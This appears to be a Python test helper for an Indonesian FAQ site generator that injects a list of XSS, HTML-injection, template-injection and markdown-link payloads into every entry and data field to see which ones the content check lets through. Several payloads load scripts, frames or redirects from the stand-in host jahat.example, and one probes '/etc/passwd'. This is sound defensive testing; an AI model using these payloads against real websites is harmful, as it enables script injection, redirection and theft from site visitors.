"""What an enemy would write, and every place where something can be written."""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from check_support import BASE
from clock import TODAY
from faq.check import check
from faq.source import load

# What runs sets `window.ran`; what is only markup leaves an <x-mark>; what leads away asks for jahat.example.
_RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    "<script src=https://jahat.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=https://jahat.example/></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "<meta http-equiv=refresh content='0; url=https://jahat.example/'>",
    "<base href=https://jahat.example/>",
    "<link rel=stylesheet href=https://jahat.example/x.css>",
    "<style>@import 'https://jahat.example/x.css'</style>",
    "<form action=https://jahat.example/><button autofocus>x</button></form>",
    "<x-mark>kata</x-mark>",
    "</title><x-mark>",
    "</template><x-mark>",
    "</textarea></noscript></style><x-mark>",
    "--><x-mark><!--",
    "]]><x-mark><![CDATA[",
    "`\n<x-mark>\n`",
    "``` \n<x-mark>\n```",
    "`Unggah\n<div><meta http-equiv=\"refresh\" content=\"0; url=https://jahat.example/\"></div>\nPenawaran`",
    f"[tautan](javascript:{_RUN})",
    f"[tautan](java&#115;cript:{_RUN})",
    f"[tautan](<javascript:{_RUN}>)",
    f"<javascript:{_RUN}>",
    f"[tautan](data:text/html,<script>{_RUN}</script>)",
    f'[tautan](https://a.example){{: href="http://jahat.example/#{{}}" onclick="{_RUN}" }}',
    f'[tautan](https://a.example "x\\" onmouseover=\\"{_RUN}")',
    f'![x](x.png"onerror="{_RUN})',
    "[a]: https://jahat.example/\n[a]",
    "&lt;x-mark&gt; &#60;x-mark>",
    "{{ 7 * 191 }} {% raw %} ${7*191} #{7*191}",
    "\u202ekram-x< \u2028<x-mark>\u2029",
    "\\u003cx-mark\\u003e \\x3cx-mark\\x3e",
    "<x-mark\u0000>",
    '!!! note "<x-mark>"\n    <x-mark>',
    "| a | b |\n|---|---|\n| <x-mark> | `<x-mark>` |",
    "<!-- html -->\n<x-mark>\n<!-- /html -->",
    "#import \"/etc/passwd\" #eval(\"1\") $x$ @x",
)  # fmt: skip

_ENTRY: dict[str, Any] = {
    "question": "Lupa kata sandi",
    "category": "akun",
    "audience": ["penyedia"],
    "symptoms": [{"id": "pesan", "text": "Pesan di layar"}, {"id": "kode", "code": "7xxxx"}],
    "asked_as": ["email tidak masuk"],
    "steps": [
        {
            "id": "lapor",
            "role": "penyedia",
            "text": "Laporkan.",
            "escalate_to": "helpdesk",
            "attach": ["npwp"],
        },
        {"id": "cek", "role": "helpdesk", "text": "Periksa.", "sop": "galat", "when": "jaim"},
        {"id": "terus", "role": "helpdesk", "text": "Teruskan.", "escalate_to": "admin"},
        {"id": "tutup", "role": "admin", "text": "Selesaikan."},
    ],
    "applies_to": "SPSE 4.5",
    "reviewed": "2026-11-01",
    "body": "Keterangan tambahan.",
}
_ENGLISH: dict[str, Any] = {
    "question": "Forgot the password",
    "asked_as": ["reset never comes"],
    "symptoms": {"pesan": "A message"},
    "steps": {"lapor": "Report.", "cek": "Check.", "terus": "Pass it on.", "tutup": "Solve it."},
    "body": "More on this.",
}
# Where in an entry a text can be: the file, and the way to the text in it.
PLACES: tuple[tuple[str, tuple[str | int, ...]], ...] = (
    ("id", ("question",)),
    ("id", ("asked_as", 0)),
    ("id", ("symptoms", 0, "text")),
    ("id", ("symptoms", 1, "code")),
    ("id", ("steps", 0, "text")),
    ("id", ("steps", 1, "text")),
    ("id", ("applies_to",)),
    ("id", ("body",)),
    ("en", ("question",)),
    ("en", ("asked_as", 0)),
    ("en", ("symptoms", "pesan")),
    ("en", ("steps", "lapor")),
    ("en", ("steps", "cek")),
    ("en", ("body",)),
)


@dataclass
class Draft:
    """One entry with its English, to be written into a content folder."""

    number: int
    texts: dict[str, dict[str, Any]]

    @classmethod
    def new(cls, number: int) -> Draft:
        return cls(number, {"id": copy.deepcopy(_ENTRY), "en": copy.deepcopy(_ENGLISH)})

    def put(self, place: tuple[str, tuple[str | int, ...]], text: str) -> None:
        file, path = place
        value: Any = self.texts[file]
        for key in path[:-1]:
            value = value[key]
        value[path[-1]] = text

    def write(self, content: Path) -> None:
        for file, ending in (("id", ".md"), ("en", ".en.md")):
            front = dict(self.texts[file])
            body = front.pop("body")
            if file == "id":
                front = {"id": f"F{self.number:03}", **front}
                if front["question"] == _ENTRY["question"]:
                    front["question"] += f" {self.number}"
            written = yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=1000)
            name = content / "faq" / f"jawaban-{self.number}{ending}"
            name.write_text(f"---\n{written}---\n{body}\n", encoding="utf-8", errors="surrogatepass")


def base(folder: Path) -> Path:
    """The small valid content without its entry, with a glossary and a procedure that has an address."""
    content = Path(shutil.copytree(BASE, folder))
    for file in (*content.glob("faq/*"), *content.glob("*.md")):
        file.unlink()
    both = {"id": "Kata sandi", "en": "Password"}
    known = {"label": both, "description": both, "url": "https://a.example/"}
    for name, id_ in (("glossary", "sandi"), ("sops", "galat")):
        (content / f"_data/{name}.yml").write_text(json.dumps({id_: known}), encoding="utf-8")
    known = {"label": both, "description": both}
    (content / "_data/categories.yml").write_text(json.dumps({"akun": known}), encoding="utf-8")
    return content


def is_accepted(content: Path) -> bool:
    """Whether the check lets this content be published."""
    found, _ = check(load(content), TODAY)
    return found is not None


def entries_with(payloads: tuple[str, ...], content: Path, scratch: Path) -> Iterator[tuple[str, str]]:
    """Write an entry for each payload that holds it wherever the check accepts it; yields what was accepted.

    Each place is tried alone in `scratch`, a folder for content with a single entry.
    """
    base(scratch)
    for number, payload in enumerate(payloads, start=1):
        kept = Draft.new(number)
        for place in PLACES:
            tried = copy.deepcopy(kept)
            tried.put(place, payload)
            for file in scratch.glob("faq/*"):
                file.unlink()
            tried.write(scratch)
            if is_accepted(scratch):
                kept = tried
                yield payload, f"{place[0]} {'.'.join(map(str, place[1]))}"
        kept.write(content)


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    """Every text in the value of a data file, with the way to it."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, (*path, key))
    elif isinstance(value, list):
        for at, inner in enumerate(value):
            yield from leaves(inner, (*path, at))
    elif isinstance(value, str):
        yield path, value


def data_with(payload: str, content: Path) -> Iterator[str]:
    """Write `payload` into every text of every data file where the check accepts it; yields the places."""
    for file in sorted(content.glob("_data/*.yml")):
        kept = yaml.safe_load(file.read_text(encoding="utf-8"))
        for path, _ in list(leaves(kept)):
            tried = copy.deepcopy(kept)
            value = tried
            for key in path[:-1]:
                value = value[key]
            value[path[-1]] = payload
            file.write_text(json.dumps(tried), encoding="utf-8")
            if is_accepted(content):
                kept = tried
                yield f"{file.name} {'.'.join(map(str, path))}"
        file.write_text(json.dumps(kept), encoding="utf-8")
